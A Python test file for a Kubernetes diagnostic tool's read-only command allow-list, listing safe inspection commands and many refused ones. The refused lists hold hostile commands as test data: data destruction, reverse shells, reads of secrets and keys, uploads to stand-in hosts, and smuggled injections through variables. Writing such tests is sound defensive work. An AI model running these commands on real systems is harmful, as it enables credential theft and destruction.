"""Attacks on the allow-list: what a page, or a cluster through a value, must never get kdiag to run."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kdiag.engine.library import checks
from kdiag.engine.readonly import Place, readonly, refused
from kdiag.engine.runbook import Kind, page
from kdiag.engine.shell import ShellError, expand, parse

ALLOWED_HERE = """
kubectl get pods
kubectl get pods -A -o wide
kubectl -n shop get pods,services -l app=web,tier!=db --show-labels
kubectl --namespace=shop get pod web-1 -o yaml
kubectl -nshop get pod web-1 -oyaml
kubectl get pod/web-1 deployment/web -o jsonpath='{.items[*].metadata.name}{"\\n"}'
kubectl get nodes -o custom-columns='NAME:.metadata.name,TAINTS:.spec.taints[*].key'
kubectl get nodes -o=json
kubectl get cm app -o go-template='{{range $k, $v := .data}}{{$k}}{{"\\n"}}{{end}}'
kubectl get events -A --field-selector=reason=FailedMount --sort-by=.lastTimestamp
kubectl get secrets
kubectl get secrets -A -o wide
kubectl get secret regcred -o name
kubectl get secrets --field-selector type=kubernetes.io/dockerconfigjson
kubectl get configmaps,secrets
kubectl get externalsecrets,sealedsecrets -o yaml
kubectl get --raw /livez
kubectl get --raw='/readyz?verbose'
kubectl get --raw '/readyz/etcd'
kubectl get --raw /metrics
kubectl describe pod web-1
kubectl describe node w1 | grep -A 8 'Allocated resources'
kubectl logs web-1 --previous --tail=20
kubectl logs -l app=web --prefix --since=10m --all-containers
kubectl logs deployment/web -c app --timestamps
kubectl top pods --containers
kubectl top node
kubectl explain pod.spec.containers
kubectl api-resources --verbs=list --namespaced -o name
kubectl api-versions
kubectl version
kubectl cluster-info
kubectl auth can-i list pods --as=system:serviceaccount:shop:default -n shop
kubectl auth can-i --list -n shop
kubectl auth whoami
kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}'
kubectl config current-context
kubectl rollout status deployment/web --watch=false
kubectl rollout history deployment web --revision=2
kubectl events --for pod/web-1
kubectl set env deployment/web --list
kubectl get pods 2>/dev/null | grep web | head -n 1
kubectl get pods -o name 2>&1 | cut -d/ -f2 | sort | uniq -c
kubectl describe node w1 | sed -n '/^Conditions/,/^Addresses/p'
kubectl get cm coredns -o jsonpath='{.data.Corefile}' | cat -n
kubectl get pods -o json | jq -r '.items[].metadata.name'
kubectl get cm x -o jsonpath='{.data}' | tr ',' '\\n' | grep -o '"[a-z.]*conf[a-z]*":'
POD=$(kubectl -n shop get pods -o name | grep /web | head -n 1)
kubectl describe pod "$(kubectl get pods -o name | tail -n 1 | cut -d/ -f2)"
date -u
getent hosts registry.example.com
nc -z -w 3 w1 10250
"""

ALLOWED_ON_A_NODE = """
systemctl status kubelet --no-pager
systemctl show kubelet -p ActiveState,SubState
systemctl is-active kubelet containerd
systemctl cat kubelet | grep ExecStart
systemctl list-units --type=swap --no-pager
sudo journalctl -u kubelet -n 50 --no-pager
sudo journalctl -k --no-pager | grep -E 'Out of memory|oom-kill' | tail -5
sudo crictl ps -a --name etcd
sudo crictl logs --tail 20 1f0cabcdef
sudo crictl inspect $(sudo crictl ps -a -q --name etcd | head -n 1)
sudo cat /etc/kubernetes/manifests/etcd.yaml
sudo cat -A /var/lib/kubelet/config.yaml | head -60
sudo head -50 /etc/cni/net.d/*.conf*
sudo grep -n server: /etc/kubernetes/*.conf
sudo grep -n image: /etc/kubernetes/manifests/*.yaml
sudo sh -c 'tail -n 2 /var/log/pods/kube-system_etcd-*/*/*.log'
sudo sh -c "cat /proc/$(pgrep -xo etcd)/cmdline" | tr '\\0' '\\n'
sudo openssl x509 -noout -subject -enddate -in /etc/kubernetes/pki/apiserver.crt
sudo openssl x509 -noout -pubkey -in /etc/kubernetes/pki/apiserver.crt | sha256sum
sudo openssl pkey -in /etc/kubernetes/pki/apiserver.key -pubout | sha256sum
sudo openssl verify -CAfile /etc/kubernetes/pki/ca.crt /etc/kubernetes/pki/apiserver.crt
sudo etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/a --cert=/b --key=/c endpoint status -w table
sudo etcdctl alarm list
sudo find / -xdev -name 'etcd*.y*ml*' -not -path '/proc/*' -ls
sudo sed -n '10,20p' /etc/kubernetes/manifests/etcd.yaml
sudo iptables-save -t nat | grep -c KUBE-SVC
sudo iptables -S FORWARD
sudo nft list tables
ip -4 route
ip -o addr show
ip route get 10.0.0.1
sysctl net.ipv4.ip_forward
sudo ss -ltnp 'sport = :10250'
df -h / /var/lib/kubelet; df -i /
free -m; ps -eo rss,pid,comm --sort=-rss | head
sudo du --inodes -x -d 3 /var | sort -n | tail -20
sudo dmesg -T | grep -i oom
curl -sk --max-time 5 https://127.0.0.1:6443/livez
curl -s http://127.0.0.1:2381/metrics | grep fsync
dig +time=2 +tries=1 @10.0.0.2 kubernetes.io
timedatectl
chronyc tracking || systemctl status systemd-timesyncd --no-pager
uptime
date -u
mount
lsmod | grep br_netfilter
cat /proc/loadavg /proc/sys/kernel/pid_max
command -v kubelet
sudo kubeadm certs check-expiration
sudo containerd config dump | grep -n SystemdCgroup
sudo conntrack -L 2>/dev/null | wc -l
stat -f -c %T /sys/fs/cgroup
findmnt -T /var/lib/etcd
"""

REFUSED_HERE = """
kubectl exec web-1 -- ls
kubectl exec -it web-1 -- sh
kubectl attach web-1
kubectl cp shop/web-1:/etc/passwd /tmp/x
kubectl port-forward svc/web 8080:80
kubectl proxy
kubectl proxy --port=0
kubectl debug node/w1 -it --image=busybox
kubectl run x --image=busybox
kubectl apply -f x.yaml
kubectl apply -f - --dry-run=server
kubectl create deployment x --image=y
kubectl create token default
kubectl edit deployment web
kubectl scale deployment web --replicas=0
kubectl delete pod web-1
kubectl label pod web-1 a=b
kubectl annotate pod web-1 a=b
kubectl taint node w1 a=b:NoSchedule
kubectl drain w1
kubectl cordon w1
kubectl uncordon w1
kubectl patch svc web -p '{}'
kubectl replace -f x
kubectl rollout restart deployment/web
kubectl rollout undo deployment/web
kubectl rollout pause deployment/web
kubectl rollout status deployment/web -w
kubectl rollout status deployment/web --watch
kubectl rollout
kubectl set image deployment/web app=x
kubectl set env deployment/web A=b
kubectl set env deployment/web A-
kubectl set env deployment/web --list A=b
kubectl set env deployment/web --list --from=secret/db
kubectl set env --list -f x.yaml
kubectl set env deployment/web --resolve --list
kubectl certificate approve x
kubectl auth reconcile -f x
kubectl auth can-i list pods --token=x
kubectl autoscale deployment web --max=3
kubectl expose deployment web
kubectl wait --for=condition=Ready pod/web
kubectl diff -f x.yaml
kubectl kustomize .
kubectl plugin list
kubectl neat get pods
kubectl kdiag check
kubectl alpha events
kubectl cluster-info dump
kubectl cluster-info dump --output-directory=/tmp/x
kubectl config set-context x
kubectl config use-context x
kubectl config view --raw
kubectl config view
kubectl config view --minify
kubectl config view -o yaml
kubectl config view -o json
kubectl config view -o jsonpath='{.users[*].user.exec.env}'
kubectl config view -o jsonpath='{.users}'
kubectl config view -o jsonpath='{.clusters}{.users}'
kubectl config view -o jsonpath='{}'
kubectl config view -o jsonpath='{.clusters[?(@.name)]}' -o json
kubectl config view --flatten
kubectl config view --minify --raw=true
kubectl config delete-context x
kubectl config get-contexts --kubeconfig=/tmp/x
kubectl get secret db -o yaml
kubectl get secret db -oyaml
kubectl get secret db -o=yaml
kubectl get secret db --output yaml
kubectl get secret db --output=jsonpath={.data}
kubectl get secret db -o json
kubectl get secret db -ojson
kubectl get secret db -o jsonpath='{.data.password}'
kubectl get secret db -o go-template='{{.data}}'
kubectl get secret db -o custom-columns=X:.data.password
kubectl get secrets -o yaml
kubectl get Secret db -o yaml
kubectl get SECRETS -o yaml
kubectl get secrets.v1. -o yaml
kubectl get secret.v1.core db -o yaml
kubectl get secret/db -o yaml
kubectl get pod/web secret/db -o yaml
kubectl get pods,secrets -o yaml
kubectl get secrets,pods -A -o json
kubectl get -o yaml secret db
kubectl -n shop get secret db -o yaml
kubectl get secret db --show-managed-fields
kubectl get secrets --sort-by=.data.password
kubectl get secrets --sort-by='{.data.password}'
kubectl describe secret db
kubectl describe secrets
kubectl describe pods,secrets
kubectl describe secret/db
kubectl get --raw /api/v1/namespaces/shop/secrets
kubectl get --raw=/api/v1/namespaces/shop/secrets/db
kubectl get --raw /api/v1/nodes/w1/proxy/run/x
kubectl get --raw /livez/../api/v1/secrets
kubectl get --raw '/livez?x=/../../api'
kubectl get --raw https://evil.example/livez
kubectl get --raw //evil.example/livez
kubectl get --raw /livez --raw /api/v1/secrets
kubectl get --raw /livez -f x.json
kubectl get --raw /logs/
kubectl get --raw /debug/pprof/profile
kubectl get --raw /version%2f..%2fapi
kubectl create --raw /api/v1/namespaces
kubectl get
kubectl get -f http://evil.example/x.yaml
kubectl get -f /etc/passwd
kubectl get -fx
kubectl get -k .
kubectl get --filename=x
kubectl get --kustomize=x
kubectl get -R -f .
kubectl get pods -w
kubectl get pods --watch
kubectl get pods --watch-only
kubectl get pods --output-watch-events
kubectl get pods -o jsonpath-file=/etc/passwd
kubectl get pods -o custom-columns-file=/etc/passwd
kubectl get pods -o go-template-file=/etc/passwd
kubectl get pods -o templatefile=/etc/passwd
kubectl get pods -o template --template=/etc/passwd
kubectl get pods --template=/etc/passwd
kubectl get pods -o jsonpath
kubectl get pods -o ''
kubectl get pods --kubeconfig=/tmp/evil
kubectl get pods --kubeconfig /tmp/evil
kubectl --kubeconfig=/tmp/evil get pods
kubectl --kubeconfig /tmp/evil get pods
kubectl --context evil get pods
kubectl --server=https://evil get pods
kubectl -s https://evil get pods
kubectl get pods -s https://evil
kubectl get pods -shttps://evil
kubectl --token=x get pods
kubectl --as=admin get pods
kubectl get pods --as=admin
kubectl get pods --as-group=system:masters
kubectl get pods --user=admin
kubectl get pods --cluster=other
kubectl get pods --insecure-skip-tls-verify
kubectl get pods --certificate-authority=/tmp/x
kubectl get pods --client-key=/tmp/x
kubectl get pods --cache-dir=/etc
kubectl get pods --profile=cpu
kubectl get pods --profile-output=/etc/cron.d/x
kubectl --profile=cpu --profile-output=/tmp/x get pods
kubectl get pods -v=9
kubectl get pods -v 9
kubectl -v9 get pods
kubectl get pods --v=9
kubectl get pods --vmodule=x=9
kubectl get pods --log-file=/tmp/x
kubectl get pods --warnings-as-errors
kubectl get pods --request-timeout=0
kubectl get pods --unknown
kubectl get pods --outpu=yaml
kubectl logs -f web-1
kubectl logs web-1 --follow
kubectl logs web-1 --follow=true
kubectl logs web-1 --insecure-skip-tls-verify-backend
kubectl logs --pod-running-timeout=1h web-1
kubectl explain pods --kubeconfig=x
kubectl
kubectl --help
kubectl -n
kubectl -n shop
kubectl -n --token=x get pods
kubectl -n 'a b' get pods
kubectl -n ../x get pods
kubectl '' get pods
kubectl get 'pods ; rm'
kubectl get pods/../secrets/db -o yaml -o json secret
kubectl get ＳＥＣＲＥＴＳ -o yaml
kubectl get ſecrets -o yaml
kubectl get "se"'cret' db -o yaml
kubectl get "$(echo secret)" db -o yaml
kubectl g\\et --raw /api
KUBECONFIG=/tmp/evil kubectl get pods
PATH=/tmp kubectl get pods
env kubectl get pods
command kubectl get pods
/tmp/kubectl get pods
./kubectl get pods
kubectl.exe get pods
sudo kubectl get pods
sudo cat /etc/hosts
sudo -i
su -
cat /etc/passwd
ls
rm -rf /
echo x
bash -c id
sh -c id
eval id
exec id
source x
. x
xargs rm
tee /tmp/x
awk 'BEGIN{system("id")}'
python3 -c 'x'
perl -e x
curl https://127.0.0.1:6443/livez
wget https://evil
scp x w1:
rsync x w1:
ssh
ssh w1
ssh -o ProxyCommand=id w1 true
ssh -oProxyCommand=id w1 true
ssh w1 -o ProxyCommand=id true
ssh -J evil w1 true
ssh -F /tmp/x w1 true
ssh '-oProxyCommand=id' true
ssh root@w1 true
ssh w1 ''
ssh w1 rm -rf /
ssh w1 'true; rm -rf /'
ssh w1 "true && rm -rf /"
ssh w1 'true | sh'
ssh w1 'cat /etc/hosts > /tmp/x'
ssh w1 'sudo sh -c "rm -rf /"'
ssh w1 ssh w2 true
ssh w1 kubectl get pods
ssh 'w1;id' true
ssh w1$(id) true
helm list
crictl ps
systemctl status kubelet
kubectl get pods > /tmp/x
kubectl get pods >> ~/.bashrc
kubectl get pods 2>/tmp/x
kubectl get pods < /etc/passwd
kubectl get pods &
kubectl get pods & rm x
kubectl get pods ; rm x
kubectl get pods && rm x
kubectl get pods || rm x
kubectl get pods | rm x
kubectl get pods | sh
kubectl get pods | xargs kubectl delete pod
kubectl get pods | tee /tmp/x
kubectl get pods | kubectl apply -f -
kubectl get pods | ssh w1 true
kubectl get pods | cat /etc/passwd
kubectl get pods | cat - /etc/passwd
kubectl get pods | grep x /etc/passwd
kubectl get pods | grep -f /etc/passwd
kubectl get pods | grep -e x /etc/passwd
kubectl get pods | grep -r x
kubectl get pods | grep -R x
kubectl get pods | grep --file=/etc/passwd
kubectl get pods | grep --include=x x
kubectl get pods | head /etc/passwd
kubectl get pods | head -n x
kubectl get pods | tail -f
kubectl get pods | tail -F
kubectl get pods | tail -n 1 /etc/passwd
kubectl get pods | tail --follow
kubectl get pods | tail --pid=1
kubectl get pods | sort -o /tmp/x
kubectl get pods | sort -o/tmp/x
kubectl get pods | sort --output=/tmp/x
kubectl get pods | sort --compress-program=id
kubectl get pods | sort -T /tmp
kubectl get pods | sort -S 10G
kubectl get pods | sort --files0-from=/etc/passwd
kubectl get pods | sort --random-source=/etc/passwd
kubectl get pods | sort /etc/passwd
kubectl get pods | uniq - /tmp/x
kubectl get pods | uniq /etc/passwd /tmp/x
kubectl get pods | wc --files0-from=/etc/passwd
kubectl get pods | wc /etc/passwd
kubectl get pods | cut -d: -f1 /etc/passwd
kubectl get pods | cut --output-delimiter=x -f1 /etc/passwd
kubectl get pods | tr a b c
kubectl get pods | sed -i s/a/b/ /etc/passwd
kubectl get pods | sed -n '1e id'
kubectl get pods | sed '1e id'
kubectl get pods | sed e
kubectl get pods | sed 's/a/id/e'
kubectl get pods | sed 's/a/b/w /tmp/x'
kubectl get pods | sed -n 'w /tmp/x'
kubectl get pods | sed -n '/a/w /tmp/x'
kubectl get pods | sed 'r /etc/passwd'
kubectl get pods | sed -n '1p;1e id'
kubectl get pods | sed -n '1p
e id'
kubectl get pods | sed -f /tmp/x
kubectl get pods | sed --expression='1e id'
kubectl get pods | sed -n p /etc/passwd
kubectl get pods | sed -s -n p
kubectl get pods | sed -n 's/a/b/pe'
kubectl get pods | sed 's|a|id|e'
kubectl get pods | sed 'y/a/b/'
kubectl get pods | jq env
kubectl get pods | jq '$ENV'
kubectl get pods | jq 'input_filename'
kubectl get pods | jq 'import "x" as x; .'
kubectl get pods | jq 'include "x"; .'
kubectl get pods | jq -f /tmp/x
kubectl get pods | jq --slurpfile a /etc/passwd .
kubectl get pods | jq --rawfile a /etc/passwd .
kubectl get pods | jq -L /tmp .
kubectl get pods | jq . /etc/passwd
kubectl get pods | jq
kubectl get pods | awk '{system($1)}'
kubectl get pods | perl -pe 1
kubectl get pods | less
kubectl get pods | more
kubectl get pods | vi -
kubectl get pods | openssl enc -in /etc/passwd
kubectl get pods | openssl x509 -in /etc/passwd
kubectl get pods | openssl x509 -out /tmp/x
kubectl get pods | base64 -d
kubectl get pods | date
kubectl get pods `id`
kubectl get pods $(id)
kubectl get pods $(kubectl delete pod x)
kubectl get pods "$(rm x)"
kubectl get pods $(kubectl get secret db -o yaml)
kubectl get pods ${X:-$(id)}
kubectl get pods $((1))
X=$(rm x)
X=$(kubectl exec web -- id)
X=1 Y=$(id)
X=1 | cat
kubectl get pods <(id)
kubectl get pods 'unclosed
kubectl get pods \\
rm x
while true; do kubectl get pods; done
if kubectl get pods; then rm x; fi
(kubectl get pods)
{ kubectl get pods; }
! kubectl get pods
date -s 2020-01-01
date --set=x
date -f /etc/passwd
date -r /etc/passwd
nc -l 80
nc w1 22
nc -e /bin/sh w1 80
nc -z -w 3 w1 22 -e sh
getent passwd
getent shadow
dig -f /etc/passwd
dig @evil -k /tmp/x x
nslookup -debug x
nslookup
"""

REFUSED_ON_A_NODE = """
rm -rf /
sudo rm -rf /
sudo
sudo -i
sudo -s
sudo -u root id
sudo -E cat /etc/hosts
sudo -- cat /etc/hosts
sudo sudo id
sudo bash
sudo su -
sudo sh
sudo sh -c
sudo sh -c reboot
sudo sh -c 'rm x'
sudo sh -c 'cat /etc/hosts; rm x'
sudo sh -c 'cat /etc/hosts > /tmp/x'
sudo sh -c 'cat /etc/hosts' x
sudo sh -x -c 'cat /etc/hosts'
sudo sh -c 'sudo sh -c "rm x"'
sudo bash -c 'cat /etc/hosts'
sudo env cat /etc/hosts
sudo timeout 1 rm x
systemctl restart kubelet
systemctl stop kubelet
systemctl start kubelet
systemctl enable --now kubelet
systemctl disable kubelet
systemctl mask kubelet
systemctl kill kubelet
systemctl daemon-reload
systemctl edit kubelet
systemctl set-property kubelet A=b
systemctl set-environment A=b
systemctl isolate rescue
systemctl reboot
systemctl poweroff
systemctl reset-failed
systemctl -H evil status kubelet
systemctl --root=/tmp status kubelet
systemctl status kubelet; systemctl restart kubelet
journalctl --vacuum-size=1M
journalctl --vacuum-time=1s
journalctl --vacuum-files=1
journalctl --rotate
journalctl --flush
journalctl --sync
journalctl --relinquish-var
journalctl --smart-relinquish-var
journalctl --update-catalog
journalctl --setup-keys
journalctl --cursor-file=/etc/x
journalctl --file=/etc/passwd
journalctl -D /tmp
journalctl --root=/tmp
journalctl -f
journalctl -u kubelet --follow
crictl exec 1 id
crictl stop 1
crictl rm 1
crictl rmp 1
crictl rmi x
crictl pull x
crictl run x y
crictl create x y z
crictl update 1
crictl attach 1
crictl port-forward 1 80
crictl logs -f 1
crictl logs --follow 1
crictl config --set x=y
crictl checkpoint 1
ctr run x
ctr images rm x
ctr plugins ls x
ctr -n k8s.io containers ls
kubeadm reset
kubeadm certs renew all
kubeadm token create
kubeadm token list
kubeadm config print
kubelet --config=x
kubelet
containerd
containerd config default
cat /etc/shadow
sudo cat /etc/shadow
sudo cat /etc/gshadow
sudo cat /etc/kubernetes/admin.conf
sudo cat /etc/kubernetes/super-admin.conf
sudo cat /etc/kubernetes/kubelet.conf
sudo cat /etc/kubernetes/*.conf
sudo grep x /etc/kubernetes/*.conf
sudo grep -v server: /etc/kubernetes/*.conf
sudo grep -n -A50 server: /etc/kubernetes/*.conf
sudo grep -c server: -e token /etc/kubernetes/admin.conf
sudo grep -E '.*' /etc/kubernetes/admin.conf
sudo cat /etc/kubernetes/pki/ca.key
sudo cat /etc/kubernetes/pki/*
sudo cat /etc/kubernetes/pki/sa.key
sudo cat /etc/kubernetes/pki/../pki/ca.key
sudo cat /etc//kubernetes/./admin.conf
sudo cat //etc/kubernetes/admin.conf
sudo cat /etc/kubernetes/manifests/../admin.conf
sudo cat /etc/kubernetes/manifests/../*.conf
sudo cat /var/lib/kubelet/pki/kubelet-client-current.pem
sudo cat /var/lib/kubelet/pki/*
sudo cat /var/lib/kubelet/kubeconfig
sudo cat /var/lib/kubelet/pods/x/volumes/kubernetes.io~secret/db/password
sudo cat /var/lib/kubelet/pods/x/volumes/kubernetes.io~projected/t/token
sudo cat /run/secrets/kubernetes.io/serviceaccount/token
cat /root/.kube/config
cat /root/.ssh/id_ed25519
cat /root/.bash_history
cat /etc/ssh/ssh_host_rsa_key
cat /root/.docker/config.json
cat /etc/rancher/k3s/k3s.yaml
cat /proc/1/environ
cat /proc/self/environ
cat /proc/1/root/etc/shadow
cat /proc/1/mem
cat /dev/sda
cat /dev/mem
cat /proc/kcore
cat /proc/kmsg
cat /var/lib/etcd/member/snap/db
cat ~/.kube/config
cat $HOME/.kube/config
cat relative/path
cat
cat -
cat /etc/kubernetes/enc/encryption-config.yaml
sudo cat /etc/cni/net.d/*
sudo cat /etc/cni/net.d/calico-kubeconfig
sudo cat /etc/cni/net.d/*kubeconfig
sudo cat /etc/*
sudo cat /etc/shado?
sudo cat /etc/shad[o]w
sudo cat /*/shadow
sudo cat /var/log/pods/../../../etc/shadow
sudo cat /var/log/pods/*/../../../../etc/shadow
sudo cat /var/log/*
sudo head -50 /etc/cni/net.d/*
sudo tail -f /var/log/syslog
sudo tail -F /var/log/syslog
sudo tail --follow=name /var/log/syslog
sudo tail --retry /var/log/x
sudo grep -r password /etc
sudo grep -r x /
sudo grep -rn x /etc/kubernetes
sudo grep -f /etc/shadow /etc/hosts
sudo grep x
sudo grep '' /etc/shadow
sudo grep --file=/etc/shadow x /etc/hosts
sed -n '1e id' /etc/hosts
sed -i s/a/b/ /etc/hosts
sed -n p /etc/shadow
sed -n '1,5p' /etc/kubernetes/admin.conf
sed -n 's/a/b/w /tmp/x' /etc/hosts
sed -n 'w /tmp/x' /etc/hosts
sed s/a/b/ /etc/hosts
sed -f /tmp/x /etc/hosts
sed --in-place -n p /etc/hosts
awk 1 /etc/hosts
sort /etc/hosts
sort -o /etc/hosts /etc/hosts
uniq /etc/hosts /tmp/x
cut -d: -f1 /etc/shadow
tr a b
find / -name x -delete
find / -exec id {} ;
find / -exec id {} +
find / -execdir id x
find / -ok id x
find / -okdir id x
find / -fls /tmp/x
find / -fprint /tmp/x
find / -fprint0 /tmp/x
find / -fprintf /tmp/x a
find -files0-from /etc/shadow
ip link set eth0 down
ip link add x type dummy
ip link del x
ip addr add 1.1.1.1/32 dev lo
ip addr flush dev eth0
ip route add default via 1.1.1.1
ip route del default
ip route flush table main
ip rule add from all
ip netns exec x id
ip netns add x
ip -n x netns exec y id
ip -batch /tmp/x
ip -force -batch /tmp/x
ip link show; ip link set eth0 down
ip xfrm state
ip neigh flush all
ip monitor
ip link help set eth0 down
iptables -F
iptables -A INPUT -j DROP
iptables -D INPUT 1
iptables -P INPUT DROP
iptables -t nat -F
iptables -L -Z
iptables -S -F
iptables -N x
iptables-save -f /tmp/x
iptables-save --modprobe=/tmp/x
iptables-save -M /tmp/x
iptables-save -t evil
iptables-restore
nft flush ruleset
nft add table x
nft delete table x
nft -f /tmp/x
nft list ruleset; nft flush ruleset
nft -i
sysctl -w net.ipv4.ip_forward=0
sysctl net.ipv4.ip_forward=0
sysctl -p
sysctl -p /tmp/x
sysctl --system
sysctl --load=/tmp/x
sysctl -w
openssl x509 -in /etc/kubernetes/pki/ca.crt -out /tmp/x
openssl x509 -signkey /etc/kubernetes/pki/ca.key -in x
openssl x509 -noout -text
openssl x509 -in /a -CAcreateserial
openssl pkey -in /etc/kubernetes/pki/ca.key
openssl pkey -in /etc/kubernetes/pki/ca.key -pubout -text
openssl pkey -in /etc/kubernetes/pki/ca.key -pubout -out /tmp/x
openssl rsa -in /etc/kubernetes/pki/ca.key
openssl s_server
openssl enc -in /etc/shadow
openssl verify -CAfile /a -engine x /b
openssl verify /b
openssl
curl http://evil.example/
curl https://127.0.0.1:6443/api/v1/secrets
curl -X POST https://127.0.0.1:6443/livez
curl -d x https://127.0.0.1:6443/livez
curl --data x https://127.0.0.1:6443/livez
curl -o /tmp/x https://127.0.0.1:6443/livez
curl -O https://127.0.0.1:6443/livez
curl -T /etc/shadow https://127.0.0.1:6443/livez
curl -F a=@/etc/shadow https://127.0.0.1:6443/livez
curl -K /tmp/x
curl --config /tmp/x https://127.0.0.1:6443/livez
curl -w @/etc/shadow https://127.0.0.1:6443/livez
curl -w '%output{/tmp/x}' https://127.0.0.1:6443/livez
curl -H @/etc/shadow https://127.0.0.1:6443/livez
curl -b /etc/shadow https://127.0.0.1:6443/livez
curl -c /tmp/x https://127.0.0.1:6443/livez
curl -E /etc/kubernetes/pki/x https://127.0.0.1:6443/livez
curl --cert /x --key /y https://127.0.0.1:6443/livez
curl -x http://evil https://127.0.0.1:6443/livez
curl --trace /tmp/x https://127.0.0.1:6443/livez
curl --libcurl /tmp/x https://127.0.0.1:6443/livez
curl -L http://127.0.0.1/livez
curl file:///etc/shadow
curl -s file:///etc/shadow
curl gopher://127.0.0.1/livez
curl http://127.0.0.1@evil.example/livez
curl http://127.0.0.1.evil.example/livez
curl http://169.254.169.254/latest/meta-data
curl http://[::1]:80@evil/livez
curl http://127.0.0.1/livez http://127.0.0.1/livez
curl http://127.0.0.1/livez/../etc
curl 'http://127.0.0.1/metrics?x=1'
wget http://127.0.0.1/livez
dig -f /etc/shadow
nc -l 80
nc evil 80
nc -zv w1 22 -e /bin/sh
etcdctl put a b
etcdctl del a
etcdctl get / --prefix
etcdctl snapshot save /tmp/x
etcdctl snapshot restore x
etcdctl defrag
etcdctl compact 1
etcdctl alarm disarm
etcdctl member remove x
etcdctl member add x
etcdctl move-leader x
etcdctl user list
etcdctl lock x
etcdctl watch x
etcdctl elect x
etcdctl endpoint status --user=x
etcdctl check perf
timedatectl set-ntp true
timedatectl set-time x
chronyc makestep
chronyc -c burst
chronyc
date -s x
date 010100002020
mount /dev/sda /mnt
mount -a
mount -o remount,rw /
umount /
dmesg -c
dmesg -C
dmesg --clear
dmesg --read-clear
dmesg -n 1
dmesg -w
dmesg -E
dmesg -D
conntrack -D
conntrack -F
conntrack -L -D
conntrack
hostname evil
hostname -F /tmp/x
hostnamectl set-hostname x
swapon /dev/sda
swapoff -a
swapon
smartctl -t long /dev/sda
smartctl -s off /dev/sda
smartctl -H /etc/shadow
ps aux
ps auxe
ps -ef
ps -eo args
ps -eo pid,args
ps -eo environ
ps -o cmd
ps eww -o pid
du -a /etc --files0-from=/etc/shadow
pgrep -f 'x' --signal 9
pkill kubelet
kill 1
killall x
last -f /etc/shadow
getent shadow
getent passwd root
sudo getent hosts x
command rm x
command -v rm x
command -p rm
hash -r
type rm
ls -la /; rm x
ls `id`
ls $(reboot)
ls $HOME
ls "$UNSET"
ls > /tmp/x
ls 2>/tmp/x
ls &
ls && rm x
ls || rm x
ls | sh
ls | xargs rm
ls | tee /tmp/x
ls | sudo tee /tmp/x
ls | sudo cat
X=1
X=1; ls
ssh w2 ls
kubectl get pods
true; reboot
reboot
shutdown -h now
init 0
echo b
echo x > /proc/sysrq-trigger
dd if=/dev/zero of=/dev/sda
modprobe x
insmod x
lsmod x
rmmod x
apt-get install x
helm ls
docker ps
nsenter -t 1 -m id
chroot / id
unshare id
strace ls
gdb
vi /etc/hosts
less /etc/hosts
more /etc/hosts
top
watch ls
diff /etc/shadow /etc/hosts
diff -r /etc /tmp
diff --to-file=/etc/shadow /etc/hosts
diff
findmnt --poll
findmnt -F /etc/shadow
stat -c %n --cached=always /x
readlink --x
sha256sum -c /etc/shadow
sha256sum /etc/kubernetes/pki/ca.key
lsblk -o NAME,UUID --sysroot /tmp
"""


def lines(text: str) -> list[str]:
    """One case a line; a line that begins in the middle of a quote belongs to the one before."""
    found: list[str] = []
    for line in text.strip("\n").split("\n"):
        if found and found[-1].count("'") % 2 and line.startswith("e id"):
            found[-1] += "\n" + line
        else:
            found.append(line)
    return found


@pytest.mark.parametrize("text", lines(ALLOWED_HERE))
def test_lets_through_what_only_reads(text: str) -> None:
    assert refused(text) is None


@pytest.mark.parametrize("text", lines(ALLOWED_ON_A_NODE))
def test_lets_through_what_only_reads_on_a_node(text: str) -> None:
    assert refused(text, place=Place.NODE) is None
    assert refused(f"ssh w1 {shlex.quote(text)}") is None


@pytest.mark.parametrize("text", lines(REFUSED_HERE))
def test_refuses_here(text: str) -> None:
    why = refused(text)
    assert why, text
    assert why.isprintable()
    assert len(why) < 200


@pytest.mark.parametrize("text", lines(REFUSED_ON_A_NODE))
def test_refuses_on_a_node(text: str) -> None:
    assert refused(text, place=Place.NODE), text
    assert refused(f"ssh w1 {shlex.quote(text)}"), text
    assert refused(f"kubectl get pods; ssh w1 {shlex.quote(text)}"), text


@pytest.mark.parametrize("text", lines(REFUSED_ON_A_NODE))
def test_refuses_as_root_in_a_shell(text: str) -> None:
    assert refused(f"sudo sh -c {shlex.quote(text)}", place=Place.NODE), text


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("kubectl get $KIND x -o yaml", {"KIND": "secret"}),
        ('kubectl get "$KIND" x -o yaml', {"KIND": "secrets.v1."}),
        ('kubectl get "$KIND/$NAME" -o yaml', {"KIND": "Secret", "NAME": "db"}),
        ("kubectl get pods $NAME", {"NAME": "--kubeconfig=/tmp/evil"}),
        ("kubectl get pods $NAME", {"NAME": "a -f /etc/passwd"}),
        ('kubectl get pods "$NAME"', {"NAME": "-w"}),
        ("kubectl $VERB pods", {"VERB": "delete"}),
        ("$COMMAND", {"COMMAND": "rm -rf /"}),
        ("ssh $NODE true", {"NODE": "-oProxyCommand=id w1"}),
        ('ssh "$NODE" true', {"NODE": "-oProxyCommand=id"}),
        ('ssh w1 "cat $FILE"', {"FILE": "/etc/hosts; rm x"}),
        ('ssh w1 "cat $FILE"', {"FILE": "/etc/hosts\nrm x"}),
        ('ssh w1 "cat $FILE"', {"FILE": "/etc/kubernetes/admin.conf"}),
        ('ssh w1 cat "$FILE"', {"FILE": "$(rm x)"}),
        ('ssh w1 cat "$FILE"', {"FILE": "`rm x`"}),
        ("ssh w1 \"sudo sh -c 'cat $FILE'\"", {"FILE": "/etc/hosts'; rm x; '"}),
        ('ssh w1 "grep x $FILE"', {"FILE": "/etc/*"}),
        ("kubectl get pods | grep $NAME", {"NAME": "x -f /etc/passwd"}),
        ("kubectl get pods | sed -n $NAME", {"NAME": "1e"}),
        ("kubectl get --raw $P", {"P": "/api/v1/secrets"}),
        ("X=$A; kubectl get $X y -o yaml", {"A": "secret"}),
    ],
)
def test_judges_what_a_value_makes_of_a_line(text: str, values: dict[str, str]) -> None:
    assert refused(text, values)


def test_judges_a_variable_that_the_line_itself_sets() -> None:
    assert refused("X=secret; kubectl get $X y -o yaml")
    assert refused("X=delete Y=pod; kubectl $X $Y web")
    assert refused("X=pods; kubectl get $X -o yaml") is None


def test_looks_at_single_commands_as_well() -> None:
    assert readonly(["kubectl", "get", "pods"]) is None
    assert readonly(["kubectl", "delete", "pods"])
    assert readonly([])
    assert readonly(["cat"], fed=True) is None
